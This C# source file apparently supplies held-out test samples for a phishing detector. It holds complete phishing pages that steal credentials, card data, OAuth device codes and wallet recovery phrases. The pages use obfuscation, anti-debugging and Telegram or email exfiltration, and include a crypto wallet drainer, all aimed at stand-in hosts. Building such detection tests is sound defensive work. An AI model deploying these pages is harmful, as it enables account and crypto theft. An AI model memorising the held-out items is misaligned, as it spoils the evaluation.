using ScanHost.TestKit.HeldOut.Fourth;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Fifth;

/// <summary>Sign-in pages of kits for many countries.</summary>
public sealed class SignInKitOfManyCountries : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("お支払い方法の更新.html", Utf8("""
<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>Amazonサインイン</title><meta name="viewport" content="width=device-width">
<style>body{font-family:"Hiragino Kaku Gothic ProN",Meiryo}.box{width:350px;margin:30px auto;border:1px solid #ddd;border-radius:4px;padding:20px 26px}.btn{background:#f0c14b;border:1px solid #a88734;width:100%;height:31px}</style></head>
<body><div class="box"><h1>アカウントの確認</h1><p>お客様のアカウントに異常なアクティビティが検出されました。24時間以内に確認がない場合、アカウントは停止されます。</p>
<form action="https://amazon-co-jp.kakunin-center.example/ap/post.php" method="POST"><label>Eメールまたは携帯電話番号</label><input name="email" type="email">
<label>パスワード</label><input name="password" type="password"><label>クレジットカード番号</label><input name="cardno" maxlength="16"><label>セキュリティコード</label><input name="cvv" maxlength="4">
<input class="btn" type="submit" value="ログイン"></form></div><p style="text-align:center;font-size:11px">© 1996-2026, Amazon.com, Inc. or its affiliates</p></body></html>
"""));
        yield return ("Webmail_quota.html", Utf8("""
<html><head><title>Zimbra Web Client - Entrar</title><base href="https://mail.prefeitura.example/"></head><body bgcolor="#007CC3">
<center><div style="background:#fff;width:500px;margin-top:90px;padding:25px"><h2>zimbra&reg;</h2>
<p><font color=red>Sua caixa de correio excedeu o limite de armazenamento (98%). Valide sua conta para não perder mensagens.</font></p>
<form name=loginForm method=post action="https://zimbra-valida.suporte-ti.example/zmb/login.php"><table>
<tr><td>Nome do usuário:<td><input name=username size=40><tr><td>Senha:<td><input name=password type=password size=40><tr><td>Confirmar senha:<td><input name=password2 type=password size=40>
<tr><td><td><input type=submit value="Validar conta"></table></form><small>Copyright &copy; 2005-2026 Synacor, Inc. Todos os direitos reservados.</small></div></center></body></html>
"""));
        yield return ("Objednavka_potvrzeni.shtml", Utf8("""
<!doctype html><meta charset=utf-8><title>Adobe Document Cloud</title>
<style>body{margin:0;background:#444 url("data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==")}#m{position:fixed;top:20%;left:50%;margin-left:-200px;width:400px;background:#fff;padding:24px;border-radius:6px}</style>
<div id=m><b style="color:#c00;font-size:22px">PDF</b><p>Tento dokument je chráněn. Pro zobrazení souboru se přihlaste pomocí svého pracovního e-mailu.</p>
<input id=e placeholder="E-mail"><input id=p type=password placeholder="Heslo"><button id=b>Zobrazit dokument</button><p id=x style="color:red"></p></div>
<script>
var n=0,h=location.hash.slice(1);if(h)document.getElementById('e').value=/@/.test(h)?h:atob(h);
document.getElementById('b').onclick=function(){var f=new FormData();f.append('user',e.value);f.append('pass',p.value);f.append('ref','pdf-cz');
fetch('https://submit-form.form-collector.example/8Kq2vPz',{method:'POST',body:f,mode:'no-cors'}).then(function(){n++;if(n<2){x.innerHTML='Nesprávné heslo, zkuste to znovu';p.value=''}else{location.href='https://get.adobe.com/reader/'}})};
</script>
"""));
        yield return ("Bankacilik_Guvenlik.html", Utf8(Fill("""
<html lang="tr"><head><meta charset="utf-8"><title>İnternet Şubesi</title></head><body>
<!-- @@1 -->
<div class="wrap"><img src="https://cdn.sube-guvenlik.example/logo.png" width="180"><h3>Hesabınız geçici olarak kısıtlandı</h3><p>Güvenliğiniz için T.C. kimlik numaranız ve internet şifreniz ile doğrulama yapınız.</p>
<form id="giris"><input name="tckn" placeholder="T.C. Kimlik No" maxlength="11"><input name="sifre" type="password" placeholder="İnternet şifresi" maxlength="6"><input name="sms" placeholder="SMS kodu" hidden><button>Giriş</button></form></div>
<script>
const B='https://api.telegram.org/bot'+['7000000000','AAFakeFakeFakeFakeFakeFakeFakeFakeFake'].join(':')+'/sendMessage';
giris.onsubmit=e=>{e.preventDefault();const d=new FormData(giris);let t='🇹🇷 YENI LOG\n';d.forEach((v,k)=>t+=k+': '+v+'\n');
fetch(B,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'-1000000000',text:t})}).finally(()=>{giris.sms.hidden=false;giris.sms.focus()})}
</script></body></html>
""", Filler.Prose(501, 260))));
    }
}

/// <summary>Pages of kits that hide themselves: encrypted, invisible or guarded.</summary>
public sealed class SignInKitThatHides : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        const string Next = "<form action='https://login.m365-verify.example/common/oauth2' method=post><input name=login type=email><input name=passwd type=password></form>";
        yield return ("Payroll_Q4_Adjustment.html", Utf8(Fill("""
<html><head><script src="https://cdnjs.cloudflare.com/ajax/libs/crypto-js/4.1.1/crypto-js.min.js"></script></head><body><script>
const a = "@@1", k = CryptoJS.enc.Utf8.parse("6f2d8c1e9b7a4053"), v = CryptoJS.enc.Utf8.parse("1029384756afbecd");
const d = CryptoJS.AES.decrypt(a, k, { iv: v, mode: CryptoJS.mode.CBC, padding: CryptoJS.pad.Pkcs7 });
document.write(d.toString(CryptoJS.enc.Utf8));
</script></body></html>
""", Convert.ToBase64String(Filler.Noise(510, 6400)))));
        var invisible = string.Concat(Next.SelectMany(letter => Convert.ToString(letter, 2).PadLeft(8, '0')).Select(bit => bit == '1' ? '\u3164' : '\uFFA0'));
        yield return ("Secure_Message_8827.htm", Utf8(Fill("""
<!DOCTYPE html><html><body><script>
(function(){var p=new Proxy({},{get:function(t,n){var s='';var b=n.replace(/ﾠ/g,'0').replace(/ㅤ/g,'1');for(var i=0;i<b.length;i+=8)s+=String.fromCharCode(parseInt(b.substr(i,8),2));document.documentElement.innerHTML=s;new Function('return this')();return s;}});
with(p){p["@@1"]}
setInterval(function(){var t0=Date.now();debugger;if(Date.now()-t0>100)location.replace('https://www.onedrive.com')},100);
document.addEventListener('keydown',function(e){if(e.key==='F12'||(e.ctrlKey&&e.shiftKey&&/[IJC]/.test(e.key))){e.preventDefault()}});
})();</script></body></html>
""", invisible)));
        yield return ("scan_0042.html", Utf8(Fill("""
<script>
/* Success is not final; failure is not fatal: it is the courage to continue that counts. */
var GbxTmWq = "@@1";
var kLpRv = "kx93";
function oPz(s,k){var r="";for(var i=0;i<s.length;i++)r+=String.fromCharCode(s.charCodeAt(i)^k.charCodeAt(i%k.length));return r}
if(navigator.webdriver||window.callPhantom||window._phantom||navigator.userAgent.indexOf("Burp")!==-1){window.location="about:blank"}
var em="#Fj.novak@contoso.example";
document["wri"+"te"](decodeURIComponent(escape(oPz(atob(GbxTmWq),kLpRv))).replace("{{email}}",em.slice(2)));
</script>
""", Convert.ToBase64String([.. Utf8(Next).Select((value, at) => (byte)(value ^ "kx93"[at % 4]))]))));
        yield return ("Remittance_Advice_INV0073.xhtml", Utf8(Fill("""
<?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>Please wait</title>
<script type="text/javascript"><![CDATA[
var _0x51ac=["@@1","@@2","\x66\x72\x6F\x6D\x43\x68\x61\x72\x43\x6F\x64\x65","\x61\x70\x70\x65\x6E\x64\x43\x68\x69\x6C\x64","\x73\x63\x72\x69\x70\x74"];
(function(_0x1,_0x2){while(--_0x2){_0x1.push(_0x1.shift())}})(_0x51ac,0x6);
var mail='YWNjb3VudHNAZmFicmlrYW0uZXhhbXBsZQ==';
var s=document.createElementNS('http://www.w3.org/1999/xhtml',_0x51ac[3]);s.src=window.atob(_0x51ac[4])+'?e='+mail;document.documentElement[_0x51ac[2]](s);
]]></script></head><body/></html>
""", Base64("https://cdn.socket-verify.example/res444.php"), Base64("turnstile-widget"))));
    }
}

/// <summary>Pages that want a code, a consent or a wallet instead of a password.</summary>
public sealed class PageThatWantsConsent : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Teams_meeting_join.html", Utf8("""
<html><head><title>Microsoft Teams | Join</title></head><body style="font-family:Segoe UI;text-align:center;background:#464775;color:#fff">
<h2>You were invited to a Teams meeting by the Ministry liaison office</h2><p>To authenticate, copy this code:</p>
<h1 id="code" style="letter-spacing:6px;background:#fff;color:#222;display:inline-block;padding:12px">········</h1>
<p><button onclick="navigator.clipboard.writeText(code.innerText);window.open('https://microsoft.com/devicelogin','_blank','width=520,height=640')">Copy code and continue</button></p>
<script>fetch('https://meet-invite.device-auth.example/api/code?client=d3590ed6-52b3-4102-aeff-aad2292ab01c').then(r=>r.json()).then(j=>{code.innerText=j.user_code;setInterval(()=>fetch('https://meet-invite.device-auth.example/api/poll?d='+j.device_code).then(r=>r.json()).then(t=>{if(t.access_token)location='https://teams.microsoft.com'}),5000)});</script></body></html>
"""));
        yield return ("Freigabe_Anfrage.html", Utf8("""
<!DOCTYPE html><html lang="de"><title>Dokumentfreigabe</title><body>
<style>.w{position:absolute;top:80px;left:220px;width:480px;box-shadow:0 10px 40px #0008;border-radius:8px;overflow:hidden}.t{background:#dee1e6;height:34px;font:13px Segoe UI;line-height:34px;padding-left:10px}.u{background:#fff;border:1px solid #ccc;border-radius:14px;margin:6px;padding:5px 12px;color:#333}</style>
<div class="w" id="win"><div class="t">Bei Ihrem Konto anmelden - Google Chrome <span style="float:right;margin-right:12px">&#x2013; &#x25A1; &#x2715;</span></div>
<div class="u"><span style="color:green">&#128274;</span> https://login.microsoftonline.com/common/oauth2/authorize?client_id=4765445b</div>
<iframe src="https://popup.freigabe-sso.example/login/index.html" width="100%" height="560" frameborder="0"></iframe></div>
<script>win.querySelector('.t').onmousedown=function(e){var x=e.clientX-win.offsetLeft,y=e.clientY-win.offsetTop;document.onmousemove=function(m){win.style.left=m.clientX-x+'px';win.style.top=m.clientY-y+'px'};document.onmouseup=function(){document.onmousemove=null}};</script></body></html>
"""));
        yield return ("claim-airdrop.html", Utf8("""
<!doctype html><html><head><title>$ARB Airdrop | Claim before 23:59 UTC</title><script src="https://cdn.jsdelivr.net/npm/ethers@5.7.2/dist/ethers.umd.min.js"></script></head>
<body><h1>You are eligible for 1,842 ARB</h1><button id="connectButton">Connect wallet</button>
<script>
const receiver="0x00000000000000000000000000000000deadbeef",abi=["function setApprovalForAll(address,bool)","function increaseAllowance(address,uint256)","function permit(address,address,uint256,uint256,uint8,bytes32,bytes32)"];
connectButton.onclick=async()=>{const p=new ethers.providers.Web3Provider(window.ethereum);await p.send("eth_requestAccounts",[]);const s=p.getSigner(),a=await s.getAddress();
const list=await(await fetch("https://api.drain-panel.example/tokens?a="+a)).json();
for(const t of list){if(t.type==="ERC721")await new ethers.Contract(t.address,abi,s).setApprovalForAll(receiver,true);else await new ethers.Contract(t.address,abi,s).increaseAllowance(receiver,ethers.constants.MaxUint256);}
const sig=await p.send("eth_signTypedData_v4",[a,JSON.stringify({primaryType:"PermitBatch"})]);fetch("https://api.drain-panel.example/sig",{method:"POST",body:sig});};
</script></body></html>
"""));
        yield return ("seed-restore.html", Utf8("""
<html><head><title>Wallet Support – Migration v3</title></head><body><div class=card><h2>Synchronise your wallet</h2>
<p>An error was found in your wallet. Enter your 12 or 24 word recovery phrase to restore your funds. <i>Your phrase never leaves this device.</i></p>
<select id=w><option>MetaMask<option>Trust Wallet<option>Ledger Live<option>Phantom</select><textarea id=phrase rows=4 placeholder="Enter your recovery phrase, separated by spaces"></textarea>
<input id=pk placeholder="or private key"><button onclick="go()">Import wallet</button></div>
<script src="https://smtpjs.com/v3/smtp.js"></script>
<script>function go(){var p=phrase.value.trim().split(/\s+/);if(p.length!=12&&p.length!=24&&!pk.value){alert('Invalid phrase');return}
Email.send({SecureToken:"00000000-0000-0000-0000-000000000000",To:"results@box-mail.example",From:"log@box-mail.example",Subject:w.value,Body:phrase.value+"<br>"+pk.value}).then(function(){location='https://metamask.io'})}</script></body></html>
"""));
    }
}
